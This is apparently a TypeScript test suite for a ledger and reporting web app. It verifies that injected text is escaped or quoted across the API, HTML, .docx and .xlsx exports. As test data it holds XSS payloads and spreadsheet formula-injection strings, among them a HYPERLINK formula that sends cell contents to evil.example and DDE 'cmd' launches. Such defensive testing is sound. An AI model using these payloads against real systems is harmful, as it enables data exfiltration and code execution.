/**
 * Script and formulas typed into record text and report narrative are rendered harmlessly
 * everywhere they come out: as JSON data in the API, escaped in the report's HTML preview and
 * standalone HTML, as plain text runs in the .docx, and quoted in the .xlsx export so a
 * spreadsheet never evaluates them (cells starting with = + - @ get a leading quote).
 */
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, type TestApp } from '../helpers/app.ts';
import { dialectName } from '../helpers/db.ts';

const SCRIPT = '<script>alert("xss")</script>';
const IMG = '<img src=x onerror=alert(1)>';
const ATTR = '" onmouseover="alert(1)" x="';
const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+cmd|' /C calc'!A0", '-2+3', "@SUM(1+1)*cmd|'/C calc'!A0", "=cmd|' /C notepad'!A1"];

describe(`${dialectName}: injected script and formulas are rendered harmlessly`, () => {
  let t: TestApp;
  let jiwei: Awaited<ReturnType<TestApp['as']>>;
  let shuji: Awaited<ReturnType<TestApp['as']>>;
  let recordId: number;
  let reportId: number;
  let narrativeKey: string;
  const title = `${SCRIPT}${IMG}${ATTR}问题`;

  beforeAll(async () => {
    t = await createTestApp();
    jiwei = await t.as('jiwei');
    shuji = await t.as('shuji');
    const rec = await jiwei({
      method: 'POST',
      url: '/api/ledgers/rectification/records',
      payload: { org: 'QH-DH', fields: { title, source: 'selfCheck', targetOrg: 'QH-DH', foundOn: '2023-11-06', measures: SCRIPT, owner: '王五' } },
    });
    expect(rec.statusCode, rec.body).toBe(201);
    recordId = rec.json().id;
    for (const f of FORMULAS) {
      const r = await jiwei({
        method: 'POST',
        url: '/api/ledgers/rectification/records',
        payload: { org: 'QH-DH', fields: { title: f, source: 'selfCheck', targetOrg: 'QH-DH', foundOn: '2023-11-07' } },
      });
      expect(r.statusCode, r.body).toBe(201);
    }
    const rep = await shuji({ method: 'POST', url: '/api/reports', payload: { org: 'QH-DH', period: '2023Q4' } });
    expect(rep.statusCode, rep.body).toBe(201);
    reportId = rep.json().id;
    const detail = (await shuji({ url: `/api/reports/${reportId}` })).json() as { narrative: { key: string; editable: boolean }[] };
    narrativeKey = detail.narrative.find((f) => f.editable)!.key;
    const patch = await shuji({
      method: 'PATCH',
      url: `/api/reports/${reportId}`,
      payload: { narrative: { [narrativeKey]: `${SCRIPT}\n${IMG}${ATTR}\n${FORMULAS[0]}` } },
    });
    expect(patch.statusCode, patch.body).toBe(200);
  });
  afterAll(() => t.close());

  it('API: the text comes back unchanged as JSON data, never as HTML', async () => {
    for (const url of [`/api/records/${recordId}`, '/api/ledgers/rectification/records?q=script', `/api/records/${recordId}/history`]) {
      const res = await jiwei({ url });
      expect(res.statusCode, url).toBe(200);
      expect(res.headers['content-type'], url).toMatch(/^application\/json/);
      expect(res.headers['x-content-type-options'], url).toBe('nosniff');
      expect(res.body, url).toContain('alert');
    }
    const rec = (await jiwei({ url: `/api/records/${recordId}` })).json() as { title: string; fields: Record<string, unknown> };
    expect(rec.title).toBe(title);
    expect(rec.fields.measures).toBe(SCRIPT);
  });

  /** Every tag is one the renderer writes, with only its own attributes: nothing came from the text. */
  function expectEscaped(html: string, label: string) {
    const body = html.replace(/<style>[\s\S]*?<\/style>/, '');
    for (const tag of body.match(/<[^>]*>/g) ?? []) {
      const m = /^<\/?([a-zA-Z0-9!]+)([\s\S]*?)\/?>$/.exec(tag);
      expect(m, `${label}: malformed tag ${tag}`).not.toBeNull();
      expect(
        ['!doctype', 'html', 'head', 'meta', 'title', 'body', 'article', 'h1', 'h2', 'h3', 'h4', 'h5', 'p', 'a', 'span', 'div', 'style'],
        `${label}: ${tag}`,
      ).toContain(m![1].toLowerCase());
      const attrs = [...m![2].matchAll(/([^\s=]+)(?:="[^"]*")?/g)].map((a) => a[1].toLowerCase());
      for (const a of attrs) expect(a, `${label}: attribute in ${tag}`).toMatch(/^(class|href|role|title|lang|charset|name|content|data-[a-z-]+|html)$/);
    }
    expect(html, label).toContain('&lt;script&gt;alert(&quot;xss&quot;)&lt;/script&gt;');
    expect(html, label).toContain('&lt;img src=x onerror=alert(1)&gt;');
  }

  it('report preview: the narrative is escaped in the HTML fragment and the standalone page', async () => {
    const detail = (await shuji({ url: `/api/reports/${reportId}` })).json() as { html: string };
    expectEscaped(detail.html, 'preview fragment');
    const page = await shuji({ url: `/api/reports/${reportId}/render?format=html` });
    expect(page.statusCode).toBe(200);
    expectEscaped(page.body, 'html page');
    // Even the HTML export carries the strict CSP and is a download, not a page of the site.
    expect(page.headers['content-security-policy']).toMatch(/script-src 'self'/);
    expect(page.headers['content-disposition']).toMatch(/^attachment/);
  });

  it('report .docx: the narrative is plain text in the document, not markup or a field', async () => {
    const res = await shuji({ url: `/api/reports/${reportId}/render?format=docx` });
    expect(res.statusCode).toBe(200);
    const zip = await JSZip.loadAsync(res.rawPayload);
    const xml = await zip.file('word/document.xml')!.async('string');
    expect(xml).not.toMatch(/<script/i);
    expect(xml).not.toMatch(/<img/i);
    expect(xml).toContain('&lt;script&gt;');
    expect(xml).not.toMatch(/<w:fldSimple|<w:instrText[^>]*>[^<]*HYPERLINK/);
    const text = [...xml.matchAll(/<w:t(?:\s[^>]*)?>([^<]*)<\/w:t>/g)].map((m) => m[1]).join('');
    expect(
      text
        .replace(/&lt;/g, '<')
        .replace(/&gt;/g, '>')
        .replace(/&quot;/g, '"')
        .replace(/&amp;/g, '&'),
    ).toContain(SCRIPT);
    for (const name of Object.keys(zip.files)) expect(name, 'no macro or embedded object').not.toMatch(/vbaProject|activeX|embeddings/i);
  });

  it('.xlsx export: text that looks like a formula is quoted, and no cell is a formula', async () => {
    const res = await jiwei({ url: '/api/ledgers/rectification/export?format=xlsx&org=QH-DH' });
    expect(res.statusCode).toBe(200);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    const texts: string[] = [];
    wb.eachSheet((ws) =>
      ws.eachRow((row) =>
        row.eachCell((cell) => {
          expect(cell.type, `cell ${cell.address} is a formula`).not.toBe(ExcelJS.ValueType.Formula);
          if (typeof cell.value === 'string') texts.push(cell.value);
        }),
      ),
    );
    for (const f of FORMULAS) {
      expect(texts, f).toContain(`'${f}`);
      expect(texts, f).not.toContain(f);
    }
    expect(texts.some((s) => s.includes(SCRIPT))).toBe(true); // kept as text, harmless in a cell
    const sheetXml = await (await JSZip.loadAsync(res.rawPayload)).file(/xl\/worksheets\/sheet\d+\.xml/)[0].async('string');
    expect(sheetXml).not.toMatch(/<f>/);
  });

  it('JSON Lines export keeps the exact text (it is data for re-import, not for a spreadsheet)', async () => {
    const res = await jiwei({ url: '/api/ledgers/rectification/export?format=jsonl&org=QH-DH' });
    const lines = res.body
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l) as { fields?: { title?: string } });
    const titles = lines.map((l) => l.fields?.title);
    expect(titles).toContain(title);
    for (const f of FORMULAS) expect(titles).toContain(f);
  });
});
